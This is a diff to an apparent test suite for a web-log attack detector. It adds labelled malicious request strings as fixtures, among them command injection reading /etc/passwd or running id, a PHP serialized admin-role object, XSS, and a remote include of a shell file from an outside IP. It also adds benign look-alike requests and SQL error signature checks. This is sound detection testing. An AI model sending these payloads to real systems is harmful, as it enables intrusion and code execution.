@@ -30,6 +30,13 @@ ATTACKS = [
     ("/f?page=php://filter/convert.base64-encode/resource=index", "log-path-traversal"),
     ("/ping?host=127.0.0.1%7Ccat%20/etc/passwd", "log-command-injection"),
     ("/ping?host=x%24(whoami)", "log-command-injection"),
+    ("/ping?host=8.8.8.8%0Auname%20-a", "log-command-injection"),  # a line break separates commands
+    ("/ping?host=x%26ping%20-c%2030%2010.0.0.1%26", "log-command-injection"),  # the blind timing probe
+    ("/calc?expr=1;system(%27id%27);//", "log-command-injection"),  # PHP code breaking out of a string
+    ("/page?inc=data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "log-command-injection"),  # <?php in base64
+    ("/cart?state=O:4:%22User%22:1:%7Bs:4:%22role%22;s:5:%22admin%22;%7D", "log-command-injection"),  # serialized
+    ("/s?q=abc%22%20onmouseover%3D%22top.x()", "log-xss"),  # an attribute written after the quote is closed
+    ("/inc?page=http://203.0.113.9/shell.txt%00", "log-path-traversal"),  # a NUL cuts the app's own suffix
     ("/hello?name=%7B%7B7*7%7D%7D", "log-template-injection"),
     ("/hello?name={{''.__class__.__mro__[1].__subclasses__()}}", "log-template-injection"),
     ("/fetch?url=http://169.254.169.254/latest/meta-data/", "log-ssrf"),
@@ -44,6 +51,8 @@ BENIGN = [
     "/maps?ll=48.85,2.35&z=12", "/oauth/callback?code=abc123&state=xyz", "/files/report%20(final).pdf",
     "/search?q=%22exact+phrase%22", "/wiki/Special:Search?search=a+or+b", "/api/items?filter[price][gte]=10",
     "/products?sort=-price", "/colors?hex=%23ff8800", "/search?q=%22sleep+mask%22&page=2", "/search?q=it%27s+(new)",
+    "/search?q=ping+pong+table", "/search?q=how+to+host+a+party", "/docs/php?fn=file_get_contents",
+    "/search?q=%22tom+onions%22", "/events?tag=online&sort=on", "/img/hero.png?x=1%00",
 ]
 
 
@@ -58,7 +67,9 @@ def test_everyday_requests_are_left_alone(target):
 
 
 def test_decoding_handles_nulls_and_case():
-    assert normalize("%2553%2545LECT%00") == "select"
+    assert normalize("%2553%2545L%00ECT") == "select"  # a NUL inside a word goes
+    assert normalize("%2553%2545LECT%00") == "select\x00"  # one ending a value stays: it truncates a file name
+    assert normalize("id=1%0A%20env") == "id=1\nenv"  # a line break is a shell's separator, kept as one
 
 
 def test_jndi_in_user_agent_and_shellshock_in_referer(tmp_path):
@@ -114,10 +125,13 @@ def test_brute_force_and_credential_stuffing(tmp_path):
 def test_rate_limits_per_zone_from_the_error_log(tmp_path):
     lines = [nginx_error(f'limiting requests, excess: 5.{i} by zone "api", client: 203.0.113.4, server: _, '
                          f'request: "GET /api HTTP/1.1"', at=i) for i in range(3)]
+    lines += [nginx_error(f'limiting connections by zone "perip", client: 203.0.113.5, server: _, request: "GET /dl HTTP/1.1"',
+                          at=10 + i) for i in range(3)]
     report = analyze_logs([write(tmp_path, "error.log", lines)])
-    assert report.details["rate_limit_zones"] == {"api": 3}
-    [finding] = rules_of(report)["log-rate-limited"]
-    assert finding.incident.count == 3 and "zone api" in finding.message
+    assert report.details["rate_limit_zones"] == {"api": 3, "perip": 3}
+    found = {f.incident.client: f for f in rules_of(report)["log-rate-limited"]}
+    assert found["203.0.113.4"].incident.count == 3 and "zone api" in found["203.0.113.4"].message
+    assert found["203.0.113.5"].incident.count == 3 and "zone perip" in found["203.0.113.5"].message  # limit_conn
 
 
 def test_error_spike_is_measured_against_the_logs_own_baseline(tmp_path):
@@ -143,6 +157,13 @@ def test_app_signals_sql_errors_tracebacks_bursts(tmp_path):
     assert app.sql_error("ORA-00933: SQL command not properly ended") == "oracle"
     assert app.sql_error("Unclosed quotation mark after the character string ''.") == "mssql"
     assert app.sql_error("MongoServerError: unknown operator: $foo") == "mongodb"
+    assert app.sql_error("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server "
+                         "version for the right syntax to use near '\\'' at line 1") == "mysql"
+    assert app.sql_error("ER_PARSE_ERROR: You have an error in your SQL syntax") == "mysql"  # node mysql
+    assert app.sql_error("sqlite3.OperationalError: near \"'\": syntax error") == "sqlite"
+    assert app.sql_error("SQLITE_ERROR: unrecognized token: \"'\"") == "sqlite"  # node sqlite3
+    assert app.sql_error("sqlalchemy.exc.OperationalError: (sqlite3.OperationalError) unrecognized token") == "sqlalchemy"
+    assert app.sql_error("GET /search?q=select+comfort+mattress 200") is None
 
 
 def _secret_values() -> list[str]:
